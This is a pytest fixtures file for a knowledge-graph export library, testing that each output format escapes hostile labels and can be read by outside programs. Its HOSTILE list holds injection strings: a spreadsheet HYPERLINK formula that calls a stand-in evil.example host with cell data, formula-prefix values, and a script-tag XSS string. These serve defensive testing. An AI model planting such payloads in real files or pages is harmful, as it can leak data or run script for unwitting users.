"""The graph in every format, and foreign programs that read it."""

from __future__ import annotations

import io
import json
import shutil
import subprocess
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest

from kng._build import Graph
from kng._export.graphs import GRAPH_FORMATS, Facts, context_file
from kng._namespaces import ID
from kng._store import Store, parse_turtle

FOREIGN = Path(__file__).parents[1] / "foreign"

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1;"click")',
    "+46 70 123",
    "@SUM(1+1)",
    "-2+3",
    "tab\there",
    'say "no"',
    "two\nlines\r\nthree",
    "back\\slash \\u0041",
    "]]> & <script>alert(1)</script>",
    "</rdf:Description>",
    "line\u2028and paragraph\u2029",
    "åäö 🌍",
    "{| prov:wasDerivedFrom |}",
    " ",
    "",
]


def written(facts: Facts) -> dict[str, bytes]:
    """Every file of every format."""
    files: dict[str, bytes] = {"context.jsonld": context_file(facts.store)}
    for form in GRAPH_FORMATS:
        for path, writer in form.files(facts).items():
            out = io.BytesIO()
            writer(out)
            files[path] = out.getvalue()
    return files


def facts_of(graph: Graph) -> Facts:
    return Facts(graph.store, tuple(rule.graph for rule in graph.rules.values()))


@pytest.fixture(scope="session")
def files(graph: Graph) -> dict[str, bytes]:
    """The project's own graph in every format."""
    return written(facts_of(graph))


@pytest.fixture(scope="session")
def first_files(first_graph: Graph) -> dict[str, bytes]:
    """The first source in every format."""
    return written(facts_of(first_graph))


@pytest.fixture(scope="session")
def hostile() -> Facts:
    """A graph whose names try to be something else, said by two sources that agree in part."""
    store = Store()
    for number, texts in enumerate((HOSTILE, HOSTILE[:5]), 1):
        said = "".join(
            f"<{ID}organisation/o{at}> a <https://w3id.org/kng/ns#Organisation> ; "
            f"<http://www.w3.org/2000/01/rdf-schema#label> {text}@sv , {text} .\n"
            for at, text in enumerate(json.dumps(text, ensure_ascii=False) for text in texts)
        )
        triples, faults = parse_turtle(said.encode(), "hostile")
        assert not faults, faults
        store.add(f"{ID}graph/s{number}", triples, source=True)
    return Facts(store, ())


@pytest.fixture(scope="session")
def rapper() -> Callable[[bytes, str], list[str]]:
    """The sorted N-Triples that Raptor reads from bytes in a syntax; no warning is let pass."""
    program = shutil.which("rapper")
    if not program:
        pytest.skip("Raptor's rapper is not installed (scripts/setup test)")

    def read(data: bytes, syntax: str) -> list[str]:
        ran = subprocess.run(
            [program, "-i", syntax, "-o", "ntriples", "-", "https://e.org/"],
            input=data,
            capture_output=True,
            check=False,
        )
        told = ran.stderr.decode()
        assert ran.returncode == 0, told
        assert "rror" not in told, told
        assert "arning" not in told, told
        return sorted(ran.stdout.decode().split("\n"))

    return read


Node = Callable[..., Any]


@pytest.fixture(scope="session")
def node() -> Node:
    """Run a script with the packages of tests/foreign, and read the JSON that it prints."""
    if not shutil.which("node") or not (FOREIGN / "node_modules").exists():
        pytest.skip("node or the packages of tests/foreign are missing (scripts/setup test)")

    def run(script: str, *arguments: str | Path) -> Any:
        ran = subprocess.run(
            ["node", "-e", script, *map(str, arguments)],
            cwd=FOREIGN,
            capture_output=True,
            check=False,
        )
        assert ran.returncode == 0, ran.stderr.decode()
        return json.loads(ran.stdout)

    return run


@pytest.fixture
def on_disk(tmp_path: Path) -> Callable[[Mapping[str, bytes]], Path]:
    """Put files into a folder."""

    def put(files: Mapping[str, bytes]) -> Path:
        for path, data in files.items():
            (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
            (tmp_path / path).write_bytes(data)
        return tmp_path

    return put
